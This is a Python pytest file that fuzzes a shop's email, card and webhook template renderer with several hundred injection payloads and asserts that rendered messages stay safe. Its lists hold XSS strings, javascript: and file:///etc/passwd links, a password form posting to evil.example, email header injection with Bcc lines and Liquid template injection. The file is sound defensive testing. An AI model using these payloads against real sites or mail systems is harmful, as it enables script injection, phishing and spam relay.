"""What a person or a client may write, and what it must never do in a message."""

from __future__ import annotations

import json
from decimal import Decimal
from html.parser import HTMLParser
from typing import Any

import pytest
from markupsafe import Markup

from activities.rendering import Templates
from activities.template_language import MAX_OUTPUT
from messages import Channel, Rendered, RenderedCall, RenderedCard, RenderedEmail

TAGS = {"html", "head", "title", "meta", "style", "body", "div", "table", "tbody", "tr", "td"} | {
    "a",
    "img",
    "strong",
    "span",
    "p",
    "br",
}

LIQUID = [
    "{{ 'LEAKED' | downcase }}",
    "{% assign x = 'LEAKED' | downcase %}{{ x }}",
    "{{ shop.support_email | append: 'LEAKED' | downcase }}",
    "{% raw %}LEAKED{% endraw %}",
    "{% for i in (1..100000) %}{{ 'LEAKED' | downcase }}{% endfor %}",
    "{% include 'LEAKED' %}",
    "{% render 'LEAKED' %}",
    "{%- if true -%}LEAKED{%- endif -%}",
    "{{ person }}",
    "{% endif %}",
    "{% comment %}",
    "}}{{ 'LEAKED' | downcase }}{{",
    "%}{{ 'LEAKED' | downcase }}{%",
    "liquid0piece",
    "{# comment #}",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example'>",
    "</td></tr></table><h1>Gone</h1>",
    "</style><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "--><script>alert(1)</script><!--",
    "<![endif]--><script>alert(1)</script>",
    "<!--[if mso]><xml></xml><![endif]-->",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<mj-raw><script>alert(1)</script></mj-raw>",
    "<mj-include path='/etc/passwd' />",
    "</mj-text></mj-column><mj-raw>",
    "<a href='javascript:alert(1)'>free</a>",
]
LINES = [
    "Ada\r\nBcc: all@evil.example",
    "Ada\nBcc: all@evil.example",
    "Ada\rBcc: all@evil.example",
    "Ada\r\n\r\n<b>body</b>",
    "Ada\u2028Bcc: all@evil.example",
    "Ada\u2029Bcc: x\x85Cc: y\x0b\x0cz",
    "\x00\x01\x1b[31m",
    "%0d%0aBcc: all@evil.example",
    "=?utf-8?q?=0D=0ABcc:_x?=",
    "\u202egnp.exe",
    "\ud800 lone surrogate",
]
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "file:///etc/passwd",
    "//evil.example",
    "\\\\evil.example\\share",
    'https://ok.example/" onclick="alert(1)',
    "https://ok.example/'onclick='alert(1)",
    "https://ok.example/><script>",
    "https:javascript:alert(1)",
    "blob:https://evil.example/1",
    "intent://evil#Intent;end",
]
HUGE = ["A" * 1_000_000, "<" * 300_000, "&" * 300_000, "😀" * 300_000, "\n" * 500_000, "{{" * 200_000]
PLAIN = [*LIQUID, *MARKUP, *LINES, *LINKS]
AMONG = [("Ada ", " Lovelace"), ("<!--", "-->"), ("\"'`", "`'\"")]
"""What a payload may stand between: words, a comment, quotation marks."""
PAYLOADS = [*PLAIN, *(left + payload + right for left, right in AMONG for payload in PLAIN), *HUGE]


class Seen(HTMLParser):
    """Which elements and addresses a page really has."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value or "" for name, value in attrs if name in ("href", "src")}


def _facts(payload: Any) -> dict[str, Any]:
    """The payload in every place that somebody else fills."""
    product = dict.fromkeys(
        ("product_id", "name", "category", "brand", "price", "quantity", "url", "image_url"), payload
    )
    basket = {"value": payload, "currency": payload, "coupon": payload, "products": [product] * 3}
    words = dict.fromkeys(("category", "offer", "store", "code", "variant", "link", "profile_done"), payload)
    facts = {"cart": {"cart_id": payload, **basket}, "order": {"order_id": payload, **basket}}
    return {**words, **facts, "recommendations": [{**product, "currency": payload}] * 3}


def _person(payload: Any) -> dict[str, Any]:
    keys = ("first_name", "language", "country", "favourite_category", "orders", "spent", "currency")
    return {**dict.fromkeys(keys, payload), "segments": [payload]}


def _harmless(rendered: Rendered) -> None:
    if isinstance(rendered, RenderedCall):
        assert list(rendered.data) == ["external_id", "tag", "cart"]
        assert list(rendered.data["cart"]) == ["id", "value", "currency", "products"]
        assert len(json.dumps(rendered.data).encode()) < MAX_OUTPUT
        return
    if isinstance(rendered, RenderedCard):
        for word in (rendered.title, rendered.body, rendered.action):
            assert word.isprintable()
        for address in (rendered.link, rendered.image):
            assert not address or address.startswith(("https://", "http://", "mailto:"))
        assert len(json.dumps(vars(rendered), ensure_ascii=False).encode()) < 4_000
        return
    assert rendered.subject.isprintable()
    assert rendered.preheader.isprintable()
    assert len(rendered.subject) <= 150
    assert len(rendered.html.encode()) <= MAX_OUTPUT
    assert len(rendered.text.encode()) <= MAX_OUTPUT
    seen = Seen(rendered.html)
    assert seen.tags <= TAGS
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert {a for a in seen.addresses if not a.startswith(("https://", "http://", "mailto:help@"))} <= {"#"}


Every = list[tuple[Channel, str, str]]


def test_there_are_enough() -> None:
    """T8: 300 payloads at least."""
    assert len(set(PAYLOADS)) >= 300


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:40]))
def test_payload(templates: Templates, every: Every, data: dict[str, Any], payload: str) -> None:
    """T8: whatever stands in any field, a message keeps its shape, its one-line subject, its size and its safe links.

    Killed by: rendering without autoescape, or leaving `link` out of a template's address.
    """
    variants = ("product", payload) if payload in PLAIN else (payload,)
    for channel, name, language in every:
        for variant in variants:
            facts = {**_facts(payload), "variant": variant, "unsubscribe_url": data["unsubscribe_url"]}
            rendered = templates.render(channel, name, language=language, data=facts, person=_person(payload))
            _harmless(rendered)
            assert "leaked" not in str(rendered)


@pytest.mark.parametrize(
    "payload",
    [
        *(0, -1, 3.5, float("nan"), float("inf"), 10**5000, True, False, b"bytes", object(), Decimal("NaN")),
        *([], [[]], [None], {}, {"a": {"b": []}}, {"name": {"name": []}}, Decimal("1E+999999"), set(), Markup("<b>")),
        *("size", "first", [["x"] * 10] * 10, {1: 2}, {"self": 1}, "1e999999999", "-0.00"),
    ],
    ids=lambda payload: f"{type(payload).__name__}",
)
def test_wrong_type(templates: Templates, every: Every, data: dict[str, Any], payload: object) -> None:
    """A field of any other type never stops a message."""
    shapes: list[dict[str, Any]] = [
        _facts(payload),
        {"cart": payload, "order": payload, "recommendations": payload},
        {"cart": {"products": payload}, "order": {"products": payload}},
        {"cart": {"products": [payload, payload]}, "order": {"products": [payload]}},
    ]
    for channel, name, language in every:
        for shape in shapes:
            facts = {**shape, "unsubscribe_url": data["unsubscribe_url"]}
            people = (_person(payload), {"segments": payload})
            for person in people:
                _harmless(templates.render(channel, name, language=language, data=facts, person=person))


def test_data_in_itself(templates: Templates, data: dict[str, Any]) -> None:
    """Data that contains itself, or far too much, is cut."""
    data["cart"]["products"].append(data["cart"])
    data["cart"]["products"] *= 10_000
    _harmless(templates.render("email", "cart/still_here", language="en", data=data, person=data))


def test_markup_is_shown_as_written(templates: Templates, data: dict[str, Any]) -> None:
    """HTML and Liquid in a product's name stand there as characters, also where they claim to be safe."""
    for name in ("<b>{{ shop.name }}</b>", Markup("<b>{{ shop.name }}</b>")):
        data["cart"]["products"][0]["name"] = name
        mail = templates.render("email", "cart/still_here", language="en", data=data, person={})
        assert isinstance(mail, RenderedEmail)
        assert "&lt;b&gt;{{ shop.name }}&lt;/b&gt;" in mail.html
        assert "<b>{{ shop.name }}</b>" in mail.text


def test_names_of_ours_cannot_be_replaced(templates: Templates, data: dict[str, Any]) -> None:
    """Data that is called like the shop, the person or the kind of message does not replace it."""
    data |= {"shop": {"name": "Evil"}, "kind": "transactional", "person": {"first_name": "Eve"}, "self": 1}
    mail = templates.render("email", "cart/still_here", language="en", data=data, person={"first_name": "Ada"})
    assert isinstance(mail, RenderedEmail)
    assert "Evil" not in mail.html
    assert "Hey Ada" in mail.text
    assert "Unsubscribe" in mail.text
